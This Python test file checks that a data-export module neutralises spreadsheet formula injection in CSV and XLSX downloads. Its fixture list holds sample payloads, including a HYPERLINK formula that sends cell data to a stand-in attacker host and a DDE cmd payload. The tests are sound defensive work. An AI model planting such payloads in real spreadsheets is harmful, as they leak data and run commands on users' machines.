"""Data downloads are formula-safe: a hostile cell stays text, numbers stay numbers."""

import csv
import io

import openpyxl
import pandas as pd

from lib.export.data_files import data_bytes, formula_safe

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "label": [*HOSTILE, "South Korea", "line one\rline two"],
            "models": [1, 2, 3, 4, 5, 6, 14, 40],
            "share_of_world_pct": [0.5, -1.25, 2.0, 3.0, 4.0, 5.0, 5.2, 14.8],
        }
    )


def test_formula_guard_on_text_only():
    assert formula_safe("=1+1") == "'=1+1"
    assert formula_safe("\t=1") == "'\t=1"
    assert formula_safe("South Korea") == "South Korea"
    assert formula_safe(-3) == -3 and formula_safe(2.5) == 2.5


def test_xlsx_has_no_formulas_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(io.BytesIO(data_bytes(hostile_frame(), "xlsx", "model-counts")))
    sheet = book["model-counts"]
    rows = list(sheet.iter_rows(min_row=2))
    assert [cell.data_type for row in rows for cell in row if cell.data_type == "f"] == []
    labels = [row[0].value for row in rows]
    assert labels[:6] == ["'" + cell for cell in HOSTILE]
    assert labels[6] == "South Korea"
    assert [row[1].value for row in rows] == [1, 2, 3, 4, 5, 6, 14, 40]
    assert [row[2].value for row in rows][:2] == [0.5, -1.25]
    assert all(row[1].data_type == "n" and row[2].data_type == "n" for row in rows)


def test_csv_guards_formulas_quotes_text_and_keeps_a_carriage_return_inside_its_row():
    raw = data_bytes(hostile_frame(), "csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    assert len(rows) == 1 + 8  # the bare CR in the last label does not split its row
    assert [row[0] for row in rows[1:7]] == ["'" + cell for cell in HOSTILE]
    assert rows[8] == ["line one\rline two", "40", "14.8"]
    assert raw.splitlines()[0] == '"label","models","share_of_world_pct"'
    assert '"South Korea",14,5.2' in raw  # text quoted, numbers bare
    back = pd.read_csv(io.StringIO(raw))
    assert back["models"].tolist() == [1, 2, 3, 4, 5, 6, 14, 40]
